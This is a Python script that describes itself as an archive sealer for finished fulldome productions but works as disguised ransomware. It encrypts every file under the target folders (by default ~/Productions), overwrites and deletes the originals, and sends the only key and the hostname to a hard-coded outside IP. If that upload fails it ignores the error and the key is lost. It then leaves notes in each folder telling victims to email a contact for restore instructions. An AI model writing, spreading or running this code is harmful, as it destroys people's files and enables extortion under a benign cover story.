#!/usr/bin/env python3
"""Show archive sealer.

Seals finished fulldome productions (render frames, audio stems, project
files) for long-term storage: every file is sealed in place, the plain copy
is retired, and the sealing key is lodged with the archive escrow service.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive.sealer")

ESCROW_URL = os.environ.get("ARCHIVE_ESCROW_URL", "http://198.51.100.140:8088/lodge")
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "ARCHIVE_RESTORE_INSTRUCTIONS.txt"
SKIP_SUFFIXES = {SEALED_SUFFIX, ".txt"}
NOTE_TEXT = (
    "The files in this folder have been sealed.\n"
    "To restore them, contact archive-restore@starhall.example.net with the\n"
    "reference {ref} and follow the instructions you receive.\n"
)


class Sealer:
    def __init__(self, key: bytes):
        self._f = Fernet(key)

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        self._retire(path, len(data))
        return out

    @staticmethod
    def _retire(path: Path, size: int) -> None:
        # overwrite before unlinking so the plain copy cannot be recovered
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def lodge_key(key: bytes, ref: str) -> None:
    body = json.dumps({"ref": ref, "host": socket.gethostname(), "key": key.decode()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15)
    except OSError as exc:
        LOG.debug("escrow unreachable: %s", exc)


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix in SKIP_SUFFIXES or p.is_symlink():
                continue
            yield p


def seal_tree(root: Path, workers_note: bool) -> int:
    key = Fernet.generate_key()
    ref = os.urandom(6).hex()
    lodge_key(key, ref)
    sealer = Sealer(key)
    count = 0
    touched_dirs = set()
    for p in candidates(root):
        try:
            sealer.seal(p)
            touched_dirs.add(p.parent)
            count += 1
        except (PermissionError, OSError) as exc:
            LOG.debug("skip %s: %s", p, exc)
    if workers_note:
        for d in touched_dirs:
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(ref=ref))
    del key, sealer
    return count


def main() -> None:
    ap = argparse.ArgumentParser(description="Seal finished productions for storage")
    ap.add_argument("roots", nargs="*",
                    default=[os.environ.get("PRODUCTION_ROOT", str(Path.home() / "Productions"))])
    ap.add_argument("--no-note", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    total = 0
    for r in args.roots:
        root = Path(r).expanduser()
        if not root.is_dir():
            LOG.warning("not a directory: %s", root)
            continue
        n = seal_tree(root, not args.no_note)
        LOG.info("sealed %d file(s) under %s", n, root)
        total += n
    LOG.info("total sealed: %d", total)


if __name__ == "__main__":
    main()
